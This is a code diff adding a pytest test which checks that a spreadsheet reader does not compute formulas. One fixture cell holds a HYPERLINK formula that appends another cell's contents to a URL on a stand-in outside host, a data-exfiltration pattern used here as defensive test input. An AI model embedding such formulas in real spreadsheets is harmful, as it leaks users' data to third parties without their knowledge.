@@ -85,3 +85,10 @@ def test_what_cannot_be_read(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) ->
     monkeypatch.setattr(importlib.util, "find_spec", lambda name: None)
     with pytest.raises(TaskError, match=r"read by openpyxl; pip install openpyxl"):
         read_file(path, ())
+
+
+def test_no_formula_is_computed(tmp_path: Path) -> None:
+    """openpyxl writes formulas without their values; Excel keeps both, and the value is read."""
+    link = '=HYPERLINK("http://elsewhere.example/?" & B2)'
+    path = write(tmp_path / "d.xlsx", data=[["p", "c"], [link, "a"], ["=1+1", "b"], ["x", "c"]])
+    assert values(read_file(path, ())) == {"p": [None, None, "x"], "c": ["a", "b", "c"]}
